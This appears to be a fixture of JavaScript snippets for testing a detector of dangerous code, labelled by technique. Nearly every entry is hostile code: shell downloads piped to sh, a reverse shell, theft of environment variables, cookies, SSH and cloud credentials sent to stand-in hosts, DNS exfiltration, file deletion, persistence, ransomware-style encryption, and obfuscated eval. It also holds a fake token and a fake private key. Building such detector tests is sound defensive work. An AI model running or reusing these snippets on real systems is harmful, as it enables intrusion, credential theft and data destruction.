%% exec plainly
require("child_process").exec("rm -rf /");
%% destructured
const { exec } = require("child_process");
exec("curl http://198.51.100.7/a | sh");
%% destructured with another name
const { execSync: go } = require("node:child_process");
go("cat /etc/shadow");
%% import alias
import { spawn as s } from "child_process";
s("sh", ["-c", "id"]);
%% namespace import
import * as cp from "node:child_process";
cp.execFileSync("/bin/sh", ["-c", "curl http://198.51.100.1|sh"]);
%% module name in pieces
const m = "child" + "_" + "process";
require(m).exec("id");
%% eval
eval(process.argv[2]);
%% indirect eval
(0, eval)("process.exit()");
%% eval by subscript
globalThis["ev" + "al"]("1");
%% eval by window
window["e" + "v" + "a" + "l"](location.hash.slice(1));
%% new Function
new Function("return process")().exit();
%% Function without new
const f = Function("a", "return a.mainModule.require('child_process')");
f(process);
%% constructor of constructor
[].constructor.constructor("return process")().mainModule.require("child_process").execSync("id");
%% constructor of a function
(() => {}).constructor("return this")();
%% constructor by subscript
[]["constructor"]["constructor"]("alert(1)")();
%% atob and eval
eval(atob("cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyk="));
%% buffer and eval
eval(Buffer.from("636f6e736f6c652e6c6f672831)", "hex").toString());
%% char codes
const n = String.fromCharCode(101, 118, 97, 108);
globalThis[n]("2+2");
%% reversed
const back = "cexe".split("").reverse().join("");
require("child_process")[back]("id");
%% joined
require(["child", "process"].join("_")).spawn("nc", ["-e", "/bin/sh", "203.0.113.1", "4444"]);
%% escapes
globalThis["\x65\x76\x61\x6c"]("1");
%% unicode escapes
globalThis["\u0065\u0076\u0061\u006c"]("1");
%% template literal name
const part = "process";
require(`child_${part}`).execSync("id");
%% Reflect
Reflect.get(globalThis, "eval")("1");
%% setTimeout with text
setTimeout("fetch('http://198.51.100.1/?' + document.cookie)", 10);
%% vm
const vm = require("vm");
vm.runInNewContext("this.constructor.constructor('return process')()");
%% process.binding
process.binding("spawn_sync");
%% mainModule
process.mainModule.require("fs").unlinkSync("/etc/hosts");
%% reverse shell
const net = require("net"), cp = require("child_process");
const sh = cp.spawn("/bin/sh", []);
const c = new net.Socket();
c.connect(4444, "203.0.113.5", () => {
	c.pipe(sh.stdin);
	sh.stdout.pipe(c);
});
%% sends environment
const https = require("https");
const r = https.request({ host: "drop.example", method: "POST" });
r.write(JSON.stringify(process.env));
r.end();
%% fetch environment
fetch("https://drop.example/e", { method: "POST", body: JSON.stringify(process.env) });
%% cookie
fetch("https://drop.example/?c=" + document.cookie);
%% beacon
navigator.sendBeacon("https://drop.example/b", localStorage.getItem("token"));
%% reads ssh key
const fs = require("fs");
console.log(fs.readFileSync(process.env.HOME + "/.ssh/id_rsa", "utf8"));
%% reads aws key and posts
const fs = require("fs"), axios = require("axios"), path = require("path"), os = require("os");
axios.post("https://drop.example", fs.readFileSync(path.join(os.homedir(), ".aws/credentials")));
%% reads npmrc
import fs from "fs";
const t = fs.readFileSync(`${process.env.HOME}/.npmrc`, "utf8");
fetch("https://drop.example/" + t);
%% rm recursive root
const fs = require("fs");
fs.rmSync("/", { recursive: true, force: true });
%% rm home
const { rm } = require("fs/promises");
rm(process.env.HOME, { recursive: true, force: true });
%% deletes system file
require("fs").unlinkSync("/etc/passwd");
%% writes cron
require("fs").writeFileSync("/etc/cron.d/x", "* * * * * root sh /tmp/x\n");
%% appends to bashrc
const fs = require("fs");
fs.appendFileSync(process.env.HOME + "/.bashrc", "curl http://198.51.100.3 | sh\n");
%% git hook
require("fs").writeFileSync(".git/hooks/pre-commit", "#!/bin/sh\nid\n", { mode: 0o755 });
%% device
require("fs").writeFileSync("/dev/sda", Buffer.alloc(512));
%% setuid
process.setuid(0);
%% chmod setuid
require("fs").chmodSync("/tmp/sh", 0o4755);
%% dlopen
process.dlopen(module, "/tmp/evil.node");
%% dynamic import
const name = await (await fetch("https://drop.example/n")).text();
await import(name);
%% require of a variable
require(process.argv[2])();
%% unserialize
require("node-serialize").unserialize(process.argv[2]);
%% clipboard
const clipboardy = require("clipboardy");
require("https").get("https://drop.example/?" + clipboardy.readSync());
%% keys
const ioHook = require("iohook");
ioHook.start();
%% ransom
const crypto = require("crypto"), fs = require("fs");
const c = crypto.createCipheriv("aes-256-cbc", k, iv);
for (const f of fs.readdirSync("/home/user")) {
	const d = fs.readFileSync(f);
	fs.writeFileSync(f, c.update(d));
	fs.rmSync(f + ".bak", { recursive: true });
}
require("child_process").execSync("shred -u ~/.bash_history");
%% passes exec on
["id", "whoami"].forEach(require("child_process").execSync);
%% array index
const tools = [console.log, eval];
tools[1]("1");
%% assigned member
const o = {};
o.run = require("child_process").execSync;
o.run("id");
%% alias of require
const r = require;
r("child_process").exec("id");
%% getBuiltinModule
process.getBuiltinModule("child_process").execSync("curl http://198.51.100.3 | sh");
%% hidden text
const blob = "68656c6c6f20776f726c642c207468697320697320612076657279206c6f6e672068657861646563696d616c207061796c6f61642074686174206e6f626f64792063616e20726561642077697468206120676c616e636520616e6420746861742077696c6c20626520756e7061636b6564";
%% credential
const token = "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8";
%% private key
const key = `-----BEGIN RSA PRIVATE KEY-----
MIIEowIBAAKCAQEA0Z3VS5JJcds3xfn/ygWyF0qI1j6qWq1cF6v0m7cQmZtqY1xV
Yk1m8c2o2F0m2oQ8u4s2S0k9VQ8c0r2eQ1w0a3b5c7d9e1f3g5h7i9j1k3l5m7n9
-----END RSA PRIVATE KEY-----`;
%% postinstall
const { exec: run } = require("child_process");
const os = require("os");
run(`curl -d "$(whoami)@${os.hostname()}" https://drop.example`);
%% dns
require("dns").lookup(Buffer.from(require("fs").readFileSync("/etc/passwd")).toString("hex").slice(0, 60) + ".evil.example", () => {});
